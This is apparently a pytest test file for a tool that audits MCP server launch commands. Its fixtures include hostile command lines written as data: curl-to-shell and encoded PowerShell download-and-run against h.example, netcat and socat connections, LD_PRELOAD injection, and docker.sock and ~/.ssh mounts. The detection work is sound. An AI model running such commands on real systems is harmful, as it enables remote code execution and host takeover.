"""Launch rules: what must fire, and what must not."""

from __future__ import annotations

import base64
import shlex
from dataclasses import dataclass, field
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpinstall.model import advisory_text
from mcpinstall.model.advisory import Advisory, AdvisorySource, Bound, Event
from mcpinstall.model.audited import FileScope
from mcpinstall.model.finding import Severity
from mcpinstall.rules.audit.asked import asked_paths
from mcpinstall.rules.audit.launching import LAUNCHING
from mcpinstall.rules.audit.machine_facts import NOTHING, MachineFacts, PathState
from mcpinstall.rules.audit.rule import Hit, Persona
from tests.builders.watchdog import ends
from tests.conftest import ROOT
from tests.unit.rules.audit.launches import server, values

HEX40, HEX64 = "0123456789" * 4, "0123456789abcdef" * 4
DIGEST = f"@sha256:{HEX64}"
PROJECT = FileScope.PROJECT


@dataclass(frozen=True)
class Case:
    """A server, and what is to be said of it in the regular persona."""

    line: str
    env: dict[str, str] = field(default_factory=dict)
    scope: FileScope = FileScope.USER
    facts: MachineFacts = NOTHING
    severity: Severity | None = None

    def hits(self) -> list[Hit]:
        one = server(*shlex.split(self.line), env=self.env, scope=self.scope)
        return [hit for _, check in LAUNCHING for hit in check(one, self.facts)]


def regular(case: Case) -> list[Hit]:
    return [hit for hit in case.hits() if (hit.persona or hit.rule.persona) is Persona.REGULAR]


def record(name: str, **fields: object) -> Advisory:
    events: tuple[Event, ...] = (Event(bound=Bound.INTRODUCED, version="0"),)
    if "fixed" in fields:
        events = (*events, Event(bound=Bound.FIXED, version=str(fields["fixed"])))
    return Advisory(
        id=name, modified=date(2026, 1, 1), ranges=(events,),
        severity=str(fields.get("severity", "")),
        withdrawn=date(2026, 1, 2) if fields.get("withdrawn") else None,
        versions=("1.0.0-x.y",),
    )  # fmt: skip


def advisories() -> MachineFacts:
    source = AdvisorySource(
        name="x", date=date(2026, 1, 1), licence="CC0-1.0", link="https://h.example/{id}"
    )
    critical = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"
    packages = {
        "pypi:bad-one": [record("MAL-2026-1")],
        "pypi:bad-once": [record("MAL-2026-2", fixed="1.1")],
        "npm:@s/bad": [record("MAL-2026-3")],
        "pypi:holes": [record("GHSA-a", fixed="2.0", severity=critical)],
        "npm:holes": [record("GHSA-b", fixed="1.5.0")],
        "npm:withdrawn": [record("GHSA-d", withdrawn=True)],
        "pypi:withdrawn": [record("GHSA-c", withdrawn=True)],
    }
    data = advisory_text.dump(date(2026, 1, 1), [source], packages)
    return MachineFacts(advisories=advisory_text.read(data, "advisories.jsonl"))


KNOWN = advisories()
ENCODED = base64.b64encode("iwr https://h.example/x | iex".encode("utf-16-le")).decode()
HARMLESS = base64.b64encode("npx a@1.0.0".encode("utf-16-le")).decode()
OPEN = MachineFacts(paths={
    "/opt/x/server": PathState(exists=True, writable="/opt/x"),
    "/opt/y/server": PathState(exists=True),
    "/opt/z/server": PathState(exists=True, resolved="/tmp/z"),
    "/opt/x": PathState(exists=True, writable="/opt/x"),
    "/opt/y": PathState(exists=True),
})  # fmt: skip
BY_NAME = MachineFacts(found={
    "server": PathState(exists=True, resolved="/opt/x/server", writable="/opt/x"),
    "shared": PathState(exists=True, resolved="/tmp/x/shared"),
})  # fmt: skip
LOCKED = MachineFacts(locked={"npm:a": "1.2.3", "npm:holes": "1.0.0"})

FIRES: dict[str, list[Case]] = {
    "MA101": [
        Case("npx -y a", severity=Severity.MEDIUM),
        Case("npx a@latest", severity=Severity.MEDIUM),
        Case("npx a@latest", scope=PROJECT, severity=Severity.HIGH),
        Case("npx -y -p a@1.0.0 -p b c"),
        Case("npx -y a b", facts=MachineFacts(locked={"npm:b": "1.0.0"})),
        Case("cmd /c npx -y a"),
        Case("'npx -y a'"),
        Case("env A=b bunx a"),
        Case("deno run -A npm:a"),
        Case("npx envmcp npx a@1.0.0"),
        Case("npx -y envmcp npx a"),
        Case("npx -y mcp-remote https://h.example"),
    ],
    "MA102": [
        Case("uvx a", severity=Severity.MEDIUM),
        Case("uvx --from 'a>=1' a"),
        Case("uv run --with mcp mcp run /x/s.py"),
        Case("pipx run a"),
        Case("uv tool run a==1.*"),
    ],
    "MA103": [
        Case("uvx --from git+https://h.example/o/r a", severity=Severity.HIGH),
        Case("npx github:o/r"),
        Case("go run h.example/m@latest", severity=Severity.HIGH),
        Case("nix run github:o/r"),
        Case("npx https://h.example/a.tgz"),
        Case("dnx A.B --yes", severity=Severity.MEDIUM),
        Case("cargo install a", severity=Severity.MEDIUM),
    ],
    "MA104": [
        Case("docker run -i reg/x:1.0", severity=Severity.MEDIUM),
        Case("docker run -i reg/x", severity=Severity.HIGH),
        Case("podman run -i x:latest", severity=Severity.HIGH),
    ],
    "MA105": [
        Case("uvx bad_one", facts=KNOWN, severity=Severity.CRITICAL),
        Case("uvx bad-one==1.0", facts=KNOWN),
        Case("uvx bad-once==1.0", facts=KNOWN),
        Case("npx -y @s/bad", facts=KNOWN),
    ],
    "MA106": [
        Case("uvx holes==1.0", facts=KNOWN, severity=Severity.CRITICAL),
        Case("npx holes@1.4.9", facts=KNOWN, severity=Severity.HIGH),
        Case("uvx --from holes==1.9 x", facts=KNOWN),
        Case("npx holes@1.0.0-x.y", facts=KNOWN),
        Case("npx holes@1.0.0-x.z", facts=KNOWN),
        Case("npx holes@1.5.0-rc.1", facts=KNOWN),
        Case("npx holes@v1.4.10", facts=KNOWN),
    ],
    "MA107": [
        Case("npx mcp-remot@1.0.0", severity=Severity.HIGH),
        Case("npx @modelcontextprotocal/server-memory@1.0.0"),
        Case("uvx mcp-server-tiem==1.0"),
        Case("uvx mcpserver-fetch==1.0"),
        Case("npx model-context-protocol-server-slack@1.0.0"),
    ],
    "MA108": [
        Case("uvx --index-url http://i.example a==1", severity=Severity.HIGH),
        Case("uvx --extra-index-url https://i.example a==1", severity=Severity.MEDIUM),
        Case("uvx --index-strategy=unsafe-best-match a==1", severity=Severity.HIGH),
        Case("npx --registry http://r.example a@1.0.0"),
        Case("pipx run --pip-args '--trusted-host x' a==1"),
        Case("uvx a==1", {"UV_EXTRA_INDEX_URL": "https://i.example"}, severity=Severity.MEDIUM),
        Case("npx a@1.0.0", {"npm_config_registry": "http://r.example"}, severity=Severity.HIGH),
        Case("npx a@1.0.0", {"npm_config_ignore_scripts": "false"}),
        Case("env PIP_TRUSTED_HOST=h uvx a==1"),
    ],
    "MA201": [
        Case("sh -c 'curl -s https://h.example | sh'", severity=Severity.CRITICAL),
        Case("bash -c 'wget -qO- h.example | sudo bash -s x'"),
        Case("bash -c 'bash <(curl -s h.example)'"),
        Case("sh -c 'eval \"$(curl h.example)\"'"),
        Case("powershell -c 'iwr h.example | iex'"),
        Case("powershell -Command 'iex (New-Object Net.WebClient).DownloadString(1)'"),
        Case(f"powershell -NoProfile -enc {ENCODED}"),
        Case("cmd /c 'curl h.example | cmd'"),
    ],
    "MA202": [
        Case("bash -c 'cd /x && ./y'", severity=Severity.MEDIUM),
        Case("sh -c 'node /x.js > /y'"),
        Case("cmd /c 'npx a@1.0.0 & calc'"),
        Case("powershell -Command '$x = 1; npx a'"),
        Case("sh -c 'echo `id`'"),
    ],
    "MA203": [
        Case("python -c 'import x'", severity=Severity.HIGH),
        Case("python3 -Ic x"),
        Case("node --eval x"),
        Case("node --input-type=module -e x"),
        Case("npx -c x"),
        Case("npm exec -c x"),
        Case("deno eval x"),
        Case("bun -e x"),
        Case("perl -e x"),
        Case("php -r x"),
        Case("uv run python -c x"),
        Case("env A=b ruby -e x"),
    ],
    "MA204": [
        Case("nc h.example 1", severity=Severity.HIGH),
        Case("/usr/bin/socat - TCP:h.example:1"),
        Case("cmd /c mshta x"),
        Case("C:/Windows/System32/rundll32.exe x"),
    ],
    "MA205": [
        Case("sudo npx a@1.0.0", severity=Severity.HIGH),
        Case("env A=b sudo -u root x"),
        Case("cmd /c runas /user:x y"),
        Case("su -c x"),
        Case("pkexec x"),
    ],
    "MA206": [
        Case("x", {"LD_PRELOAD": "/x.so"}, severity=Severity.HIGH),
        Case("x", {"NODE_OPTIONS": "--max-old-space-size=1 --require /x.js"}),
        Case("env BASH_ENV=/x y"),
        Case(f"docker run -e LD_PRELOAD=/x.so i{DIGEST}"),
        Case("x", {"JAVA_TOOL_OPTIONS": "-javaagent:/x.jar"}),
        Case("x", {"OPENSSL_CONF": "/home/ana/x.cnf"}),
        Case("x", {"OPENSSL_CONF": "/etc/../home/ana/x.cnf"}),
        Case("x", {"GCONV_PATH": "/home/ana"}),
        Case("x", {"DYLD_VERSIONED_LIBRARY_PATH": "/home/ana"}),
        Case("x", {"ENV": "/x/rc"}),
        Case("x", {"PYTHONWARNINGS": "ignore::mod.Class"}),
        Case("x", {"BROWSER": "sh -c x"}),
    ],
    "MA207": [
        Case("x", {"PATH": "./bin:/usr/bin"}, severity=Severity.MEDIUM),
        Case("x", {"PYTHONPATH": "src"}, scope=PROJECT, severity=Severity.HIGH),
        Case("x", {"PATH": "/usr/bin:"}),
        Case("x", {"NODE_PATH": "/tmp/x"}),
        Case("x", {"PATH": "C:\\x;bin"}),
        Case("x", {"PATH": "/usr/bin:/opt/x"}, facts=OPEN),
        Case("x", {"PYTHONPATH": "${workspaceFolder}/src"}),
    ],
    "MA208": [
        Case("/tmp/server", severity=Severity.HIGH),
        Case("node /var/tmp/x/server.js"),
        Case("python /Users/u/Downloads/s.py"),
        Case("/opt/x/server", facts=OPEN),
        Case("/opt/z/server", facts=OPEN),
        Case("uv run /tmp/s.py"),
        Case("java -jar /tmp/s.jar"),
        Case("server --port 1", facts=BY_NAME, severity=Severity.LOW),
    ],
    "MA209": [
        Case("./server", scope=PROJECT, severity=Severity.MEDIUM),
        Case("node server.js", scope=PROJECT),
        Case("uvx --from . a", scope=PROJECT),
        Case("go run ./cmd/x", scope=PROJECT),
        Case("npm run start", scope=PROJECT),
        Case("node ${workspaceFolder}/x.js", scope=PROJECT),
        Case("uv run server.py", scope=PROJECT),
        Case("java -jar x.jar", scope=PROJECT),
    ],
    "MA601": [
        Case(f"docker run --privileged x{DIGEST}", severity=Severity.HIGH),
        Case(f"docker run --net=host x{DIGEST}"),
        Case(f"docker run --cap-add SYS_ADMIN x{DIGEST}"),
        Case(f"podman run --security-opt seccomp=unconfined x{DIGEST}"),
        Case(f"docker run --device /dev/mem x{DIGEST}"),
    ],
    "MA602": [
        Case(f"docker run -v /var/run/docker.sock:/var/run/docker.sock x{DIGEST}",
             severity=Severity.CRITICAL),
        Case(f"docker run --mount type=bind,source=/run/containerd/containerd.sock,target=/s "
             f"x{DIGEST}"),
        Case(f"podman run -v /run/user/1000/podman/podman.sock:/s x{DIGEST}",
             severity=Severity.HIGH),
        Case("x", {"DOCKER_HOST": "tcp://h.example:2375"}),
    ],
    "MA603": [
        Case(f"docker run -v /:/host x{DIGEST}", severity=Severity.HIGH),
        Case(f"docker run -v /home/u:/h x{DIGEST}", severity=Severity.MEDIUM),
        Case(f"docker run --mount type=bind,src=/home/u/.ssh,dst=/k x{DIGEST}"),
        Case("npx @modelcontextprotocol/server-filesystem@1.0.0 /Users/u/x /",
             severity=Severity.HIGH),
        Case("npx @modelcontextprotocol/server-filesystem@1.0.0 ~", severity=Severity.MEDIUM),
        Case("uvx mcp-server-git==1 --repository /home/u/.aws"),
        Case("npx @modelcontextprotocol/server-filesystem@1.0.0 C:/"),
    ],
}  # fmt: skip

SILENT: dict[str, list[Case]] = {
    "MA101": [
        Case("npx -y @s/a@1.2.3-beta.1 b@2"),
        Case("npx --no-install a"),
        Case("npx --offline a"),
        Case("npx ./pkg"),
        Case("npx -y a", facts=LOCKED),
        Case("node node_modules/.bin/a"),
        Case("npx ${PACKAGE}"),
    ],
    "MA102": [
        Case("uvx a==1.2.3"),
        Case("uvx --from /x a"),
        Case("uv run --frozen /x/s.py"),
        Case("uv run --script /x/s.py"),
        Case("uvx --offline a"),
    ],
    "MA103": [
        Case(f"uvx --from git+https://h.example/o/r@{HEX40} a"),
        Case(f"uvx --from https://h.example/a.whl#sha256={HEX64} a"),
        Case("go run h.example/m@v1.2.3"),
        Case("npx file:/x"),
        Case("dnx A.B@1.0.0"),
    ],
    "MA104": [
        Case(f"docker run -i x{DIGEST}"),
        Case(f"docker run -i x:1{DIGEST}"),
        Case(f"docker run -i sha256:{HEX64}"),
        Case("docker compose up"),
    ],
    "MA105": [
        Case("uvx bad-once==1.1", facts=KNOWN),
        Case("npx bad-one@1.0.0", facts=KNOWN),
        Case("uvx good==1.0", facts=KNOWN),
    ],
    "MA106": [
        Case("uvx holes==2.0", facts=KNOWN),
        Case("uvx withdrawn==1.0", facts=KNOWN),
        Case("npx holes@1.5.0", facts=KNOWN),
        Case("npx holes@1.5.0+build.7", facts=KNOWN),
        Case("npx holes@1.10.0", facts=KNOWN),
        Case("npx withdrawn@1.0.0-x.y", facts=KNOWN),
        Case("npx holes@1.2.3", facts=NOTHING),
    ],
    "MA107": [
        Case("npx mcp-remote@1.0.0"),
        Case("npx @modelcontextprotocol/server-memry@1.0.0"),
        Case("uvx mcp_server_time==1.0"),
        Case("uvx mcp-server-gist==1.0"),
        Case("npx abcd@1.0.0"),
        Case("npx mcp-remot\u0435@1.0.1"),
    ],
    "MA108": [
        Case("uvx --default-index https://i.example a==1"),
        Case("npx a@1.0.0", {"npm_config_registry": "https://r.example/"},
             facts=MachineFacts(indexes=frozenset({"https://r.example"}))),
        Case("uvx a==1 --extra-index-url http://server.example"),
        Case("npx a@1.0.0", {"npm_config_registry": ""}),
        Case("npx a@1.0.0", {"npm_config_@s:registry": "https://r.example"}),
    ],
    "MA201": [
        Case("curl https://h.example"),
        Case(f"docker run curl{DIGEST} sh"),
        Case("npx a@1.0.0 --description 'curl x | sh'"),
        Case("powershell -c 'npx a@1.0.0'"),
    ],
    "MA202": [
        Case("cmd /c npx a@1.0.0"),
        Case("bash -lc 'exec prog args'"),
        Case("bash -lc 'npx a@1.0.0'"),
        Case("bash /x/run.sh"),
        Case("cmd /c npx mcp-remote@1.0.0 'https://h.example/?a=1&b=2'"),
    ],
    "MA203": [
        Case("python -m mod -c x"),
        Case("server -c config.toml"),
        Case("node /x/server.js -e x"),
        Case("npx a@1.0.0 -c x"),
        Case("python /x/s.py -c x"),
    ],
    "MA204": [
        Case("curl https://h.example"),
        Case("ssh host mcp-server"),
        Case("npx a@1.0.0 nc"),
    ],
    "MA205": [
        Case("/usr/sbin/server"),
        Case("server --user sudo"),
        Case(f"docker run --user root x{DIGEST}"),
    ],
    "MA206": [
        Case("x", {"NODE_OPTIONS": "--max-old-space-size=4096 --no-warnings"}),
        Case("x", {"JAVA_TOOL_OPTIONS": "-Xmx1g"}),
        Case("x", {"LD_PRELOAD": ""}),
        Case("x", {"OPENSSL_CONF": "/etc/ssl/openssl.cnf"}),
        Case("x", {"OPENSSL_CONF": "/dev/null"}),
        Case("x", {"ENV": "production"}),
        Case("x", {"PYTHONWARNINGS": "ignore"}),
        Case("x", {"BROWSER": "firefox"}),
    ],
    "MA207": [
        Case("x", {"PATH": "/usr/local/bin:/usr/bin:${PATH}"}),
        Case("x", {"PATH": "C:\\Windows;D:\\bin;%PATH%"}),
        Case("x", {"PYTHONPATH": "/opt/y"}, facts=OPEN),
        Case("x", {"PATH": "${env:PATH}:/usr/bin"}),
    ],
    "MA208": [
        Case("/home/u/bin/server"),
        Case("/opt/y/server", facts=OPEN),
        Case("npx a@1.0.0 /tmp/data"),
        Case("server"),
        Case("other", facts=BY_NAME),
        Case("node server", facts=BY_NAME),
        Case("shared", facts=BY_NAME),
    ],
    "MA209": [
        Case("node server.js"),
        Case("node /home/u/server.js", scope=PROJECT),
        Case("npx a@1.0.0 ./x", scope=PROJECT),
        Case("node ${workspaceFolder}/x.js", scope=PROJECT, facts=MachineFacts(is_approved=True)),
        Case("python -m mod", scope=PROJECT),
        Case("server", scope=PROJECT),
    ],
    "MA601": [
        Case(f"docker run --cap-drop ALL --network none x{DIGEST}"),
        Case(f"docker run x{DIGEST} --privileged"),
        Case(f"docker run --privileged=false x{DIGEST}"),
    ],
    "MA602": [
        Case(f"docker run -e DOCKER_CONFIG=/x x{DIGEST}"),
        Case("x", {"DOCKER_HOST": "unix:///var/run/docker.sock"}),
        Case("x", {"DOCKER_HOST": "tcp://h.example:2376", "DOCKER_TLS_VERIFY": "1"}),
    ],
    "MA603": [
        Case("npx @modelcontextprotocol/server-filesystem@1.0.0 /Users/u/Desktop"),
        Case("npx a@1.0.0 --config ~/.config/app.toml"),
        Case("npx a@1.0.0 /etc"),
        Case(f"docker run -v data:/data x{DIGEST}"),
        Case(f"docker run -v /home/u/project:/p x{DIGEST}"),
    ],
}  # fmt: skip


def pairs(table: dict[str, list[Case]]) -> list[tuple[str, Case]]:
    return [(name, case) for name, cases in table.items() for case in cases]


@pytest.mark.parametrize(("rule", "case"), pairs(FIRES))
def test_a_planted_problem_is_found_and_nothing_else(rule: str, case: Case) -> None:
    found = regular(case)

    assert [hit.rule.id for hit in found] == [rule]
    assert case.severity in {None, found[0].severity or found[0].rule.severity}
    assert found[0].message
    assert found[0].fix


@pytest.mark.parametrize(("rule", "case"), pairs(SILENT))
def test_what_looks_similar_is_not_reported(rule: str, case: Case) -> None:
    assert [hit.rule.id for hit in regular(case)] == []


def test_every_rule_has_three_of_each() -> None:
    rules = {one.id for group, _ in LAUNCHING for one in group}

    assert {name for name, cases in FIRES.items() if len(cases) >= 3} == rules
    assert {name for name, cases in SILENT.items() if len(cases) >= 3} == rules


@pytest.mark.parametrize(("rule", "case"), pairs(FIRES))
def test_a_hit_names_a_value_of_the_entry(rule: str, case: Case) -> None:
    one = server(*shlex.split(case.line), env=case.env)
    places = {value.pointer for value in one.argv} | {each.value.pointer for each in one.variables}

    assert {hit.pointer for hit in case.hits()} <= places


@pytest.mark.parametrize(
    ("line", "rule", "persona"),
    [
        ("bash -lc 'exec prog'", "MA202", Persona.PEDANTIC),
        ("ssh host mcp-server", "MA204", Persona.PEDANTIC),
        (f"docker run --user root x{DIGEST}", "MA205", Persona.AUDITOR),
        ("npx a@1.0.0 /etc", "MA603", Persona.PEDANTIC),
    ],
)
def test_what_only_some_want_to_hear(line: str, rule: str, persona: Persona) -> None:
    assert [(hit.rule.id, hit.persona) for hit in Case(line).hits()] == [(rule, persona)]


def test_a_package_of_a_lock_beside_the_file_is_told_to_pedants() -> None:
    hits = Case("npx -y a", facts=LOCKED).hits()

    assert [(hit.rule.id, hit.persona) for hit in hits] == [("MA101", Persona.PEDANTIC)]
    assert "a@1.2.3" in hits[0].fix


@pytest.mark.parametrize(
    ("line", "fix"),
    [
        ("uvx mcp_server_time", "mcpi adopt s"),
        ("uvx --from mcp-server-time[x]>=1 y", "mcpi install time"),
        ("nice uvx mcp_server_time", "mcpi install time"),
        ("uvx other", "name the version: `other==X.Y.Z`; or `mcpi adopt s`"),
        ("npx -y mcp-server-time", "name the version: `mcp-server-time@X.Y.Z`"),
    ],
)
def test_the_fix_is_to_install_what_a_registry_knows(line: str, fix: str) -> None:
    facts = MachineFacts(aliases={"pypi:mcp-server-time": "time"})

    assert [hit.fix for hit in Case(line, facts=facts).hits()] == [fix]


def test_a_fixed_version_is_told() -> None:
    assert regular(Case("uvx holes==1.0", facts=KNOWN))[0].fix == "name version 2.0 or a later one"


def test_paths_that_are_asked_for() -> None:
    one = server("node", "/x/s.js", "/y", env={"PATH": "/usr/bin:bin", "OTHER": "/z"})

    assert list(asked_paths(one)) == ["/x/s.js", "/usr/bin"]


WORDS = st.sampled_from([
    "npx", "uvx", "docker", "run", "-v", "--mount", "type=bind,source=", "/:/x", "sh", "-c",
    "curl x | sh", "powershell", "-enc", "AAA", "python", "-e", "sudo", "--index", "http://",
    "--from", "@", "==", "a", "~", "/", "C:", "--", "-", "deno", "eval", "java", "-jar", "uv",
    "--pip-args", "'", "--user",
]) | st.text(max_size=12)  # fmt: skip
NAMES = st.sampled_from([
    "PATH", "NODE_OPTIONS", "PYTHONWARNINGS", "ENV", "UV_INDEX", "DOCKER_HOST", "BROWSER", "X",
])  # fmt: skip


@given(
    st.lists(WORDS, max_size=8),
    st.dictionaries(NAMES, st.text(max_size=20), max_size=3),
    st.sampled_from(FileScope),
)
def test_no_rule_fails(argv: list[str], env: dict[str, str], scope: FileScope) -> None:
    one = server(*argv, env=env, scope=scope)

    list(asked_paths(one))
    for rules, check in LAUNCHING:
        assert {hit.rule for hit in check(one, KNOWN)} <= set(rules)


HOSTILE = [
    "a", "@", "#", ":", ";", ",", "|", "curl |", "$(", "/", "//", "\\", "-", "--x=", "'", '"', " ",
    "\n", ".", "${", "}", "=", "a.", "-r ", "::", "%", "<(curl ", "iex ",
]  # fmt: skip
STARTS = [
    "npx", "uvx --from", "sh -c", "powershell -c", "powershell -enc", "docker run -v",
    "docker run --mount", "node", "cmd /c", "python -c", "nix run", "pipx run --pip-args", "",
]  # fmt: skip


@pytest.mark.parametrize("start", STARTS)
def test_five_megabytes_take_no_time_of_their_square(start: str) -> None:
    for piece in HOSTILE:
        text = piece * (5_000_000 // len(piece))
        variables = {"PATH": text, "NODE_OPTIONS": text, "UV_INDEX": text, "PYTHONWARNINGS": text}
        one = server(*start.split(), text, env=variables, scope=PROJECT)
        with ends(5):
            for _, check in LAUNCHING:
                list(check(one, KNOWN))


def test_no_hit_repeats_a_long_text() -> None:
    text = "x" * 100_000
    lines = [f"npx {text}", f"uvx {text}", f"./{text}", f"docker run -v /{text}:/x {text}",
             f"nc {text}", f"/tmp/{text}", f"docker run --cap-add {text} x"]  # fmt: skip

    for line in lines:
        for hit in Case(line, scope=PROJECT).hits():
            assert len(hit.message) < 1000
            assert len(hit.fix) < 1000


def test_pointers_of_a_command_as_one_string() -> None:
    assert values("npx -y a")[0].pointer == regular(Case("'npx -y a'"))[0].pointer


def test_the_page_explains_every_rule_as_it_is() -> None:
    page = (ROOT / "docs" / "audit-rules.md").read_text(encoding="utf-8")
    sections = {part.partition("\n")[0]: part for part in page.split("\n## ")[1:]}

    for one in {one for group, _ in LAUNCHING for one in group}:
        section = sections[f"{one.id} {one.slug}"]
        facts = f"Severity: {one.severity}. Confidence: {one.confidence}. CWE-{one.cwe}."
        assert f"{facts} {one.title}." in section
        assert "*Found:*" in section
        assert "*Not found:*" in section
